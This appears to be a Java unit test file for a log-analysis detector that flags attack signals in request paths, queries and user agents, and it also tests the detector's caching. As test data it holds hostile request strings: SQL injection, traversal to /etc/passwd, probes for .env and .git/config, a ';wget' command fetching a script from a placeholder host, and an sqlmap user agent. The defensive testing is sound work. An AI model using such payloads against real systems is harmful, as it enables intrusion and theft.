package dev.logverdict.log.activity;

import dev.logverdict.log.bytes.ByteSlice;
import dev.logverdict.log.bytes.SipHash;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;

class AttackSignalsTest {

    @Test
    void noTargetPatternHoldsAQuestionMarkSoPathAndQueryCanBeScannedApart() {
        assertThat(AttackSignals.TARGET_PATTERNS.values().stream().flatMap(List::stream))
                .isNotEmpty()
                .noneMatch(pattern -> pattern.contains("?"));
    }

    @Test
    void findsSignalsInThePathInTheQueryAndInBothAtOnce() {
        AttackSignals signals = signals();
        assertThat(signalsOf(signals, "/item?id=1%27%20UNION%20SELECT%20password"))
                .isEqualTo(Signal.SQL_INJECTION.bit());
        assertThat(signalsOf(signals, "/.env?x=1")).isEqualTo(Signal.SENSITIVE_FILE_PROBE.bit());
        assertThat(signalsOf(signals, "/wp-login.php?redirect=../../etc/passwd"))
                .isEqualTo(Signal.ADMIN_PROBE.bit() | Signal.PATH_TRAVERSAL.bit());
        // A cached path and a fresh query: the query is still scanned.
        assertThat(signalsOf(signals, "/.env?q=;wget%20http://x/s.sh"))
                .isEqualTo(Signal.SENSITIVE_FILE_PROBE.bit() | Signal.SHELL_INJECTION.bit());
        assertThat(signalsOf(signals, "/search?q=union+station")).isZero();
    }

    @Test
    void aCacheThatGrowsAndEmptiesGivesEveryTextTheSignalsAndIdentityItHadBefore() {
        // Far more distinct paths than a cache starts with, seen three times: the cache grows and empties
        // on the way, and no answer may change with it.
        AttackSignals signals = signals();
        Map<String, List<Long>> first = new HashMap<>();
        for (int round = 0; round < 3; round++) {
            for (int i = 0; i < 40_000; i++) {
                String path = i % 7 == 0 ? "/" + i + "/../../etc/passwd" : "/static/" + i + ".css";
                long found = signalsOf(signals, path);
                List<Long> answer = List.of(found, signals.lastHash());
                assertThat(first.computeIfAbsent(path, p -> answer)).isEqualTo(answer);
                assertThat(found).isEqualTo(i % 7 == 0 ? Signal.PATH_TRAVERSAL.bit() : 0L);
            }
        }
    }

    private static long signalsOf(AttackSignals signals, String target) {
        byte[] b = target.getBytes(StandardCharsets.ISO_8859_1);
        int mark = target.indexOf('?') < 0 ? b.length : target.indexOf('?');
        return signals.ofTarget(b, 0, mark, b.length);
    }

    @Test
    void aTextThatSharesAnothersCacheSlotGetsItsOwnSignalsAndIdentity() {
        // Same length, same first and last 32 bytes: one cache slot whatever the key. The sensitive one
        // first or second, each keeps its signals, and top-N slots (which know a text by its SipHash) tell
        // them apart.
        String common = "/assets/vendor/bootstrap/dist/js";
        String probe = common + "/.git/config" + common;
        String other = common + "/xgitxconfig" + common;
        long key = new Random().nextLong();
        int length = probe.length();
        assertThat(AttackSignals.place(key, latin1(probe), 0, length))
                .isEqualTo(AttackSignals.place(key, latin1(other), 0, length));
        for (List<String> order : List.of(List.of(probe, other), List.of(other, probe))) {
            AttackSignals signals = signals();
            for (int round = 0; round < 2; round++) {
                Map<String, Long> hashes = new HashMap<>();
                for (String path : order) {
                    long expected = path.equals(probe) ? Signal.SENSITIVE_FILE_PROBE.bit() : 0;
                    assertThat(signalsOf(signals, path))
                            .as("%s in %s", path, order)
                            .isEqualTo(expected);
                    hashes.put(path, signals.lastHash());
                }
                assertThat(hashes.get(probe)).isNotEqualTo(hashes.get(other));
            }
        }
    }

    @Test
    void aUserAgentKeepsItsOwnSignalsAfterAnotherTookItsSlot() {
        String start = "Mozilla/5.0 (X11; Linux x86_64) ";
        String end = " AppleWebKit/537.36 Chrome/120.0";
        byte[] scanner = latin1(start + "sqlmap/1.7" + end);
        byte[] browser = latin1(start + "Gecko/2010" + end);
        long key = new Random().nextLong();
        assertThat(AttackSignals.place(key, scanner, 0, scanner.length))
                .isEqualTo(AttackSignals.place(key, browser, 0, browser.length));
        AttackSignals signals = signals();
        for (int round = 0; round < 2; round++) {
            assertThat(signals.ofUserAgent(field(scanner))).isEqualTo(Signal.SCANNER_USER_AGENT.bit());
            assertThat(signals.ofUserAgent(field(browser))).isZero();
        }
    }

    @Test
    void knowsARepeatedTextByTheSameHashAndDifferentTextsByDifferentOnes() {
        AttackSignals signals = signals();
        signalsOf(signals, "/index.html?a=1");
        long first = signals.lastHash();
        signalsOf(signals, "/other.html");
        long other = signals.lastHash();
        signalsOf(signals, "/index.html?b=2");
        assertThat(signals.lastHash()).isEqualTo(first).isNotEqualTo(other).isNotZero();
    }

    private static AttackSignals signals() {
        Random secret = new Random();
        return new AttackSignals(SipHash.keyedBy(secret), secret);
    }

    private static byte[] latin1(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static ByteSlice field(byte[] bytes) {
        ByteSlice field = new ByteSlice();
        field.set(bytes, 0, bytes.length);
        return field;
    }
}
